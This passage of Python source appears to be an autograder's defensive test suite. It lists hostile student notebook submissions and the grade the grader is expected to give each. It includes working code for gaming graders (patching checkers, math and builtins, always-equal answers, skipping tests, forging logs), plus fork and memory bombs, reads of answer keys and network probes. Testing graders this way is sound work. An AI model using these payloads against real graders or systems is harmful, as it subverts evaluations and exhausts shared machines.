    # the runtime defences alone: graded again with the integrity scan switched off
    Case("depth-fake-checker", "rebinds `_check` to an object whose checks all pass (no answers)", "0 on every test",
         "depth", _patched("class _Pass:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
                           "_check = _Pass()"), _zero, _SUMMARY),
    Case("depth-patched-checker", "replaces every method of course.testkit.Checker (no answers)", "0 on every test",
         "depth", _patched("from course.testkit import Checker\nfor _m in ('kind', 'length', 'items', 'equal', "
                           "'one_of', 'close', 'between', 'function', 'call'):\n"
                           "    setattr(Checker, _m, lambda self, *a, **k: None)"), _zero, _SUMMARY),
    Case("depth-patched-internals", "overwrites course.testkit's helpers and answers with always-equal objects",
         "0 on every test", "depth",
         lambda ctx: _one(ctx, _filled(ctx, nbs.gaming_answers(ctx.source), ALWAYS_EQUAL + (
             "import course.testkit as _t\n_t._same = lambda a, b: True\n_t._type = lambda x: float\n"
             "_t._isfinite = lambda x: True\n_t.AnswerError = type(None)"))), _zero, _WRONG_TYPE),
    Case("depth-patched-math", "patches math and builtins, answers with always-close objects", "0 on every test",
         "depth", lambda ctx: _one(ctx, _filled(ctx, nbs.gaming_answers(ctx.source), ALWAYS_CLOSE + (
             "import math, builtins\nmath.isclose = lambda *a, **k: True\nmath.isfinite = lambda x: True\n"
             "builtins.abs = lambda x: 0\nbuiltins.round = lambda x, n=0: x"))), _zero, _WRONG_TYPE),
    Case("depth-skip-tests", "turns every later cell into `pass` with an input transformer (no answers)",
         "0 on every test", "depth",
         _patched("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"), _zero,
         _SUMMARY),
    Case("depth-showtraceback", "hides every traceback (no answers)", "0 on every test", "depth",
         _patched("_ip = get_ipython()\n_ip.showtraceback = lambda *a, **k: None\n"
                  "_ip._showtraceback = lambda *a, **k: None"), _zero, _SUMMARY),
    Case("depth-displayhook-result", "shows a fake test result through sys.displayhook, then fails",
         "0 on every test", "depth", _displayhook, _zero, _SUMMARY),
    # runaway code
    Case("infinite-loop", "loops forever in the first answer", "0 for that exercise; the rest graded (timeout)",
         "once", _with_answer("first", "while True:\n    pass"), _zero_for("first"), _who("was interrupted")),
    Case("loop-ignores-interrupt", "ignores SIGINT and loops forever in the last answer",
         "0 for that exercise; earlier ones graded (kernel stopped)", "once",
         _with_answer("last", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
         _zero_for("last"), _who("ignored the interrupt")),
    Case("deep-recursion", "recurses without end after raising the recursion limit (last answer)",
         "0 for that exercise; earlier ones graded", "once",
         _with_answer("last", "import sys\nsys.setrecursionlimit(10**7)\ndef _down(n):\n    return _down(n + 1) + 1\n"
                              "_down(0)"), _zero_for("last"), _who("ran past")),
    Case("memory-bomb", "allocates memory until it runs out (last answer)", "0 for that exercise; earlier ones graded",
         "once", _with_answer("last", "_hog = []\nwhile True:\n    _hog.append(b'x' * (64 * 1024 * 1024))"),
         _zero_for("last"), _errors("MemoryError"), sandbox_only=True),
    Case("fork-bomb", "forks without end (last answer)", "0 for that exercise; earlier ones graded", "once",
         _with_answer("last", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
         _zero_for("last"), _who("ran past"), sandbox_only=True),
    Case("sys-exit", "calls sys.exit() in the first answer", "0 for that exercise; the rest graded", "once",
         _with_answer("first", "import sys\nsys.exit(0)"), _zero_for("first"), _errors("SystemExit")),
    Case("os-exit", "calls os._exit() in the last answer", "0 for that exercise; earlier ones graded", "once",
         _with_answer("last", "import os\nos._exit(0)"), _zero_for("last"), _who("kernel died")),
    Case("hard-crash", "kills its own kernel with SIGSEGV in the last answer",
         "0 for that exercise; earlier ones graded", "once",
         _with_answer("last", "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)"), _zero_for("last"),
         _who("kernel died")),
    Case("output-100mb", "prints 100 MB in the first answer, then answers right", "full marks; output cut to 2 MB",
         "once", _with_answer("first", "print('x' * 100_000_000)", keep_answer=True), _full,
         _who("printed more than")),
    # files
    Case("not-json", "submits a file that is not JSON", "0 on every test", "once",
         _raw("this is not a notebook {"), _zero, _who("not a notebook")),
    Case("old-format", "submits right answers saved in nbformat 3", "full marks (nbformat upgrades it)", "once",
         _old_format, _full, _SUMMARY),
    Case("future-format", "submits a notebook that claims nbformat 5", "0 on every test", "once",
         _future_format, _zero, _who("not a notebook")),
    Case("odd-file-names", "adds files named with spaces, quotes, $(...), newlines, a leading dash (right answers)",
         "full marks; names never reach a shell", "once", _odd_names, _full, _SUMMARY),
    Case("misnamed-notebook", "submits the notebook under another name", "0 on every test (no notebook)", "once",
         _misnamed, _zero, r"Skipping unknown notebook: [^\n]*{student}"),
    Case("symlink-notebook", "submits a symlink to the instructor's notebook (with the solutions)",
         "0 on every test; the link is not followed", "once", _symlinked_notebook, _zero, _who("is a symlink")),
    Case("symlink-planted", "plants symlinks to the answer key, the gradebook, a folder and nowhere (right answers)",
         "full marks; no link is followed or copied", "once", _planted_symlinks, _full,
         _who(r"'[^']+' is a symlink \(to '[^']+'\); it was not followed")),
    # escaping the sandbox
    Case("read-secrets", "reads the answer key, the gradebook, the config and another student's work (no answers)",
         "0 on every test; every read fails", "once", _reader, _zero, _errors("FileNotFoundError"), sandbox_only=True),
    Case("write-outside", "overwrites and deletes the gradebook, the answer key and other students' work",
         "0 on every test; every file intact", "once", _writer, _zero, _errors("Error"), sandbox_only=True),
    Case("network", "opens TCP connections to the grader's machine and the internet", "0 on every test; no connection",
         "once", _network, _zero, _errors("(ConnectionRefusedError|OSError)"), sandbox_only=True),
    # code next to the notebook (nothing a student submits is imported)
    Case("shadow-package", "adds course/, nbgrader/, IPython/, sitecustomize.py, a .pth, a .pyc and a .so "
         "that would take over grading (no answers)", "0 on every test; none of it copied or imported",
         "every", _shadowed(False), _zero, _who("is a Python package")),
    Case("shadow-package-honest", "adds the same files but answers right", "full marks; none of it copied",
         "once", _shadowed(True), _full, _who("is Python code")),
    # reading the tests before they run
    Case("oracle-hooks", "registers IPython event hooks, an input transformer, a run_cell wrapper and a profile "
         "hook (reached through aliases) to read each test before it runs (no answers)",
         "0 on every test; no test is ever seen", "every", _oracle, _zero, _SUMMARY),
    Case("checker-rewrite", "rewrites the checker's closure cells and methods through aliased getattr/setattr "
         "behind %time lines (no answers)", "0 on every test", "every", _patched(CHECKER_REWRITE), _zero, _SUMMARY),
    Case("shadow-builtins", "rebinds len, abs, min, sum, zip, isinstance ... and the tests' own variable names, and "
         "answers with objects that equal everything", "0 on every test", "every",
         lambda ctx: _one(ctx, _filled(ctx, nbs.gaming_answers(ctx.source), ALWAYS_EQUAL + SHADOW_BUILTINS)), _zero,
         _SUMMARY),
    Case("namespace-kept", "answers right, with its own variables named like the tests' variables",
         "full marks; no test changes the student's variables", "every", _namespace_kept, _full, _SUMMARY),
    # the grader's log
    Case("log-forge", "writes forged log lines to the grader's stdout and stderr, truncates them, and raises an "
         "error whose message forges lines about another student (no answers)",
         "0 on every test; the log is intact and names only this student", "once", _patched(LOG_FORGER), _zero,
         _errors("ValueError")),
    # using up the machine
    Case("fill-disk", "fills every folder it can write and nests 3,000 folders in each, then answers right",
         "full marks; the grader's disk is untouched", "once", lambda ctx: _one(ctx, _filled(ctx, prelude=FILL_DISK)),
         _full, _SUMMARY, sandbox_only=True),
    Case("memory-outside", "holds memory outside the address-space limit (memfd, /dev/shm) in the last answer",
         "0 for that exercise; earlier ones graded", "once", _with_answer("last", MEMORY_OUTSIDE), _zero_for("last"),
         _who("autograded points"), sandbox_only=True),
    Case("iopub-flood", "prints 40 MB to stdout and 20 MB to stderr, each in one message, then answers right",
         "full marks; neither message is parsed", "once",
         _with_answer("first", IOPUB_FLOOD, keep_answer=True), _full, _who("printed more than")),
    Case("fifo-notebook", "submits a FIFO in place of the notebook", "0 on every test; the grader never blocks",
         "once", lambda ctx: Submission({ctx.filename: Fifo()}), _zero, _who("not a regular file")),
    Case("fifo-extra", "answers right and adds a FIFO next to the notebook", "full marks; the FIFO is not opened",
         "once", lambda ctx: _one(ctx, _filled(ctx), **{"pipe": Fifo()}), _full, _who("not a regular file")),
    Case("sparse-extra", "answers right and adds a sparse file of 4 GiB", "full marks; the file is never read",
         "once", lambda ctx: _one(ctx, _filled(ctx), **{"big.bin": Sparse(4 * 1024 ** 3)}), _full, _who("sparse")),
    Case("many-cells", "adds 40,000 locked cells with made-up ids (no answers)", "0 on every test, in bounded time",
         "once", _many_cells, _zero, _who("cells, more than")),
    Case("deep-folders", "answers right and adds a chain of 1,200 nested folders (past Python's recursion limit)",
         "not graded, with a finding; the rest of the class is graded", "once",
         lambda ctx: _one(ctx, _filled(ctx), **{"deep": DeepFolders(1200)}), _not_graded, r"nest more than \d+ deep"),
    # reusing a warm grading worker (each submission starts from nothing)
    Case("reuse-a-planter", "answers right, then leaves its answers in module state, builtins, the environment and "
         "every folder it can write", "full marks", "depth", _planter, _full, _SUMMARY),
    Case("reuse-b-harvester", "answers nothing, but adopts the answers an earlier submission left behind",
         "0 on every test; nothing left behind is found", "depth", _harvester, _zero, _SUMMARY),
    Case("reuse-survivor", "leaves a thread and a detached, renamed child process running, then answers right",
         "full marks; nothing of it runs after its notebook", "depth", _survivor, _full, _SUMMARY),
    Case("reuse-escape", "writes into the working and root folders of its parent, of process 1 and of itself, "
         "then answers right", "full marks; nothing written outside its sandbox", "depth",
         lambda ctx: _one(ctx, _filled(ctx, prelude=ESCAPE_WORKER)), _full, _SUMMARY),
    # metadata
    Case("tests-ungraded", "marks every test cell as not graded and not locked (no answers)",
         "0 on every test; the instructor's metadata is restored", "every", _ungraded_tests, _zero, _who("changed")),
    Case("answers-worth-100", "answers right and marks every answer cell as graded, worth 100 points",
         "full marks, out of the instructor's points", "once", _answer_points, _full, _who("its points")),
    Case("tests-as-answers", "turns every test cell into a manually graded answer (no answers)",
         "0 on every test; the tests run", "once", _tests_as_answers, _zero, _who("changed")),
]


def _deep_folders(path: Path, depth: int) -> None:
    """A chain of *depth* folders named 'd' under *path*, made relative to each parent (no long paths)."""
    path.mkdir()
    fd = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = inner
    finally:
        os.close(fd)


def cases(scope: str | None = None) -> list[Case]:
    """The cases of *scope* (``"every"``, ``"once"`` or ``"depth"``), or all of them."""
    if scope is not None:
        check_type(scope, str, "scope")
        if scope not in SCOPES:
            raise CourseValueError(f"scope must be one of {', '.join(SCOPES)}; got {scope!r}")
    return [c for c in CASES if scope is None or c.scope == scope]


def write(submission: Submission, folder: str | Path) -> None:
    """Write *submission* into *folder* (created if needed): notebooks, raw files and symlinks."""
    check_type(submission, Submission, "submission")
    check_type(folder, (str, Path), "folder")
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for relative, content in submission.files.items():
        path = folder / relative
        if folder.resolve() not in path.parent.resolve().parents and path.parent.resolve() != folder.resolve():
            raise CourseValueError(f"submission file {relative!r} would land outside {folder}")
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Symlink):
            os.symlink(content.target, path)
        elif isinstance(content, Fifo):
            os.mkfifo(path)
        elif isinstance(content, Sparse):
            with open(path, "wb") as handle:
                handle.truncate(content.size)
        elif isinstance(content, DeepFolders):
            _deep_folders(path, content.depth)
        elif isinstance(content, (bytes, bytearray)):
            path.write_bytes(bytes(content))
        elif isinstance(content, str):
            path.write_text(content, encoding="utf-8")
        else:
            nbformat.write(content, str(path))
